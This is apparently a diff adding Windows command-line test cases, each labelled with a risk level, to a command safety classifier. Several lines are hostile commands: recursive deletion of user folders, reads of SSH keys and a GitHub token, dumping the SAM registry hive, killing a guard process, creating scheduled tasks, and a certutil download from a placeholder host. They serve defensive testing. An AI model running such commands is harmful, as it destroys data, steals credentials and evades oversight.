@@ -25,3 +25,42 @@ time 12:00  # want dangerous
 assoc .txt  # want safe
 assoc .txt=evil  # want dangerous
 path C:\tools;%PATH%  # want dangerous
+rem built & ver  # want safe
+rem & rd /s /q src  # want dangerous irreversible
+rem | rd /s /q src  # want dangerous irreversible
+for /d %i in (C:\Users\*) do rd /s /q %i  # want blocked irreversible
+for /r C:\Users %i in (*) do del %i  # want blocked irreversible
+for /r src %i in (*.go) do @echo %i  # want safe
+for /d %i in (*) do @echo %i  # want safe
+find "func" src\main.go  # want safe
+find "x" %USERPROFILE%\.ssh\id_rsa  # want moderate
+find src -delete  # want dangerous irreversible
+sort src\main.go  # want safe
+sort %USERPROFILE%\.ssh\id_rsa  # want moderate
+sort src\main.go /o sorted.txt  # want moderate
+sort src\main.go /out C:\Windows\x  # want dangerous
+more src\main.go  # want safe
+more %USERPROFILE%\.ssh\id_rsa  # want moderate
+fc src\main.go src\main.go  # want safe
+comp %USERPROFILE%\.ssh\id_rsa src\main.go  # want moderate
+print src\main.go  # want moderate
+expand a.cab C:\Windows\x  # want dangerous
+attrib src\main.go  # want safe
+attrib +r src\main.go  # want moderate
+echo %GITHUB_TOKEN%  # want moderate
+reg query HKCU\Software\Acme  # want safe
+reg query HKLM\SAM  # want moderate
+reg query \\build07\HKLM\Software  # want moderate
+reg save HKLM\SAM x  # want moderate
+reg export HKCU x.reg  # want moderate
+taskkill /f /im gk-hook.exe  # want blocked
+taskkill /pid 4242  # want moderate
+schtasks /query /fo list  # want safe
+schtasks /create /tn x /tr y  # want dangerous
+icacls src  # want safe
+icacls src /grant Everyone:F  # want dangerous
+wmic os get caption  # want safe
+wmic process where name='gk-hook.exe' delete  # want blocked
+wmic os get caption /format:x.xsl  # want dangerous
+certutil -hashfile src\main.go SHA256  # want safe
+certutil -urlcache -f http://x.example/a a  # want dangerous
